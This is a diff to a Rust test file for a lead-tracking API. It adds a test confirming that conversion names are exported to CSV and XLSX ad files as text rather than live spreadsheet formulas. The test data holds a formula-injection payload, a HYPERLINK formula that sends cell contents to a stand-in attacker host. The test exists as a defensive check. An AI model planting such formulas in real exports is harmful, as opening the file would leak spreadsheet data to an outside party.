@@ -7,6 +7,7 @@ use crate::leads::{Key, call, key_for, post, send, spawn, submit, visit};
 use calamine::{Data, Reader, Xlsx};
 use leadline_core::BusinessId;
 use leadline_core::channel::ClickIds;
+use leadline_core::click_id::{ClickId, ClickKind};
 use leadline_core::form::FormIdentity;
 use leadline_core::names::{Name, Slug};
 use leadline_core::net::DomainName;
@@ -89,7 +90,7 @@ async fn an_api_key_marks_calls_and_forms_and_downloads_the_ad_files(engine: Eng
     let unmarked = call(&app, &seeded, "CA2", Some(unmarked_visit), 30).await;
     let identity = FormIdentity {
         click_ids: ClickIds {
-            gbraid: Some("gbraid-form".into()),
+            gbraid: Some(ClickId::parse(ClickKind::Gbraid, "gbraid-form").unwrap()),
             ..ClickIds::default()
         },
         ..FormIdentity::default()
@@ -360,7 +361,48 @@ async fn bad_requests_are_json_errors(engine: Engine) {
     app.finish().await;
 }
 
+async fn a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(engine: Engine) {
+    let (app, seeded, key) = spawn(engine).await;
+    let formula = r#"=HYPERLINK("https://evil.example/?"&A1,"Update")"#;
+    let names = [formula, "-20% spring promo", "@SUM(1+1)"];
+    for (i, name) in names.iter().enumerate() {
+        let visitor = format!("ga:{i}.{i}");
+        let from_ad = visit(&app, seeded.site.id, &visitor).await;
+        let called = call(&app, &seeded, &format!("CA{i}"), Some(from_ad), 60).await;
+        let path = format!("/v1/calls/{}/conversion", called.record_ref);
+        let (status, mark) = post(&app, &path, &key, json!({ "name": name, "value": "10" })).await;
+        assert_eq!((status, mark["name"].as_str()), (200, Some(*name)), "stored as typed");
+    }
+
+    let (status, _, body) = download(&app, "/v1/exports/google-ads.csv", &key).await;
+    assert_eq!(status, 200);
+    let (_, rows) = csv_rows(&body);
+    let mut exported: Vec<&str> = rows[1..].iter().map(|row| row[3].as_str()).collect();
+    exported.sort_unstable();
+    let quoted = names.map(|name| format!("'{name}"));
+    let mut expected: Vec<&str> = quoted.iter().map(String::as_str).collect();
+    expected.sort_unstable();
+    assert_eq!(exported, expected, "each name is text, not a formula");
+    assert!(rows[1..].iter().all(|row| row[5] == "10.00"), "amounts stay numbers");
+    let (_, _, body) = download(&app, "/v1/exports/google-ads-calls.csv", &key).await;
+    let (_, rows) = csv_rows(&body);
+    assert!(
+        rows[1..].iter().all(|row| row[0] == "+12025550169"),
+        "the caller's E.164 number keeps its +: {rows:?}"
+    );
+
+    // A spreadsheet's text cell is never evaluated: the name is kept exactly there.
+    let (_, _, book) = download(&app, "/v1/exports/google-ads.xlsx", &key).await;
+    let mut cells: Vec<String> = xlsx_rows(book)[2..].iter().map(|row| row[3].clone()).collect();
+    cells.sort_unstable();
+    let mut typed = names.map(String::from).to_vec();
+    typed.sort_unstable();
+    assert_eq!(cells, typed);
+    app.finish().await;
+}
+
 crate::on_both_engines!(
+    a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text,
     an_api_key_marks_calls_and_forms_and_downloads_the_ad_files,
     another_business_key_gets_404_for_every_record_and_site,
     bad_requests_are_json_errors,
